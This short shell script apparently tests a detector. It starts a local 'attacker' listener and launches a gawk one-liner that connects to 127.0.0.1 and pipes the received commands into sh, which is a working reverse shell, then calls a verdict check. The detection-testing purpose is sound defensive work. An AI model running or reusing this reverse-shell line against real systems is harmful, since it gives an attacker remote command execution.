# Its own coprocess, and a connection that no other program makes.
. "$CORPUS/lib/common.sh"
attacker listen 31043
gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/31043"; h = "sh"; while ((s |& getline c) > 0) { print c |& h; h |& getline r; print r |& s } }' &
verdict
